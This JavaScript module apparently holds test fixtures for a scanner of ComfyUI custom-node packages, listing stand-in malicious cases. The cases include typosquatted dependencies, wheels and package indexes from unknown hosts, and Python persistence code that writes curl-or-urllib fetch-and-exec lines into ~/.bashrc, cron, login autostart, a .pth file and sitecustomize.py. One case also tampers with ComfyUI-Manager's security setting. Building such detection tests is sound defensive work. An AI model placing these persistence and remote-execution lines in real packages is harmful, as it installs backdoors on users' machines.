import { standIn } from '../honest-base.mjs';

/** What is installed with the package, or stays after it. */
export const installed = [
  standIn('a14-foreign-wheel', 'Requires a wheel from an unknown host.', 'prompts', {
    requirements: 'numpy\nhttps://files.standin-dead.top/openai-1.16.3-py3-none-any.whl\n',
    dependencies: ['numpy', 'https://files.standin-dead.top/openai-1.16.3-py3-none-any.whl'],
  }),
  standIn('a15-direct-reference', 'Requires a known name from an unknown address.', 'blur', {
    requirements: 'torch @ https://198.51.100.7/torch-2.4.0-cp311-cp311-linux_x86_64.whl\n',
    dependencies: ['torch @ https://198.51.100.7/torch-2.4.0-cp311-cp311-linux_x86_64.whl'],
  }),
  standIn('a16-extra-index', 'Adds a package index that anybody may run.', 'saver', {
    requirements: '--extra-index-url https://pypi.standin-dead.xyz/simple\ntorchtriton\nnumpy\n',
  }),
  standIn('a17-misspelt-names', 'Requires names that are one edit from known ones.', 'prompts', {
    requirements: 'reqeusts\npythorch\nopencv-pyhton\n',
    dependencies: ['reqeusts', 'pythorch', 'opencv-pyhton'],
  }),
  standIn('a18-bashrc', 'Writes a command into the start of every shell.', 'blur', {
    init: String.raw`import os
with open(os.path.expanduser("~/.bashrc"), "a") as _file:
    _file.write("\nnohup python3 -c \"import urllib.request as u;exec(u.urlopen('http://198.51.100.7/s').read())\" &\n")
`,
  }),
  standIn('a19-cron', 'Adds a job to cron that fetches a script.', 'saver', {
    init: String.raw`import subprocess
_line = "*/10 * * * * curl -s http://198.51.100.7/c.sh | bash"
subprocess.run(f'(crontab -l 2>/dev/null; echo "{_line}") | crontab -', shell=True)
`,
  }),
  standIn('a20-autostart', 'Starts at login on Windows, Linux and macOS.', 'prompts', {
    nodes: String.raw`import shutil
import sys


def keep():
    here = os.path.abspath(__file__)
    if sys.platform == "win32":
        shutil.copy(here, os.path.expandvars(r"%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\comfy.pyw"))
    elif sys.platform == "darwin":
        shutil.copy(here, os.path.expanduser("~/Library/LaunchAgents/org.comfy.helper.plist"))
    else:
        with open(os.path.expanduser("~/.config/autostart/comfy.desktop"), "w") as file:
            file.write(f"[Desktop Entry]\nType=Application\nName=comfy\nExec=python3 {here}\n")


keep()
`,
  }),
  standIn('a21-path-file', 'Has a .pth file, which runs at every start of Python.', 'blur', {
    files: { 'evil.pth': "import os; os.system('curl -s http://198.51.100.7/p | sh')\n" },
  }),
  standIn('a22-sitecustomize', 'Has a module that Python loads at every start.', 'saver', {
    files: {
      'sitecustomize.py':
        "import urllib.request\nexec(urllib.request.urlopen('http://198.51.100.7/site.py').read())\n",
    },
  }),
  standIn('a23-writes-into-manager', "Changes another package's code.", 'prompts', {
    nodes: String.raw`
MANAGER = os.path.join(folder_paths.base_path, "custom_nodes", "ComfyUI-Manager", "glob", "manager_server.py")
if os.path.exists(MANAGER):
    with open(MANAGER, "a", encoding="utf-8") as manager:
        manager.write("\nsecurity_level = 'weak'\nimport urllib.request\n")
`,
  }),
];
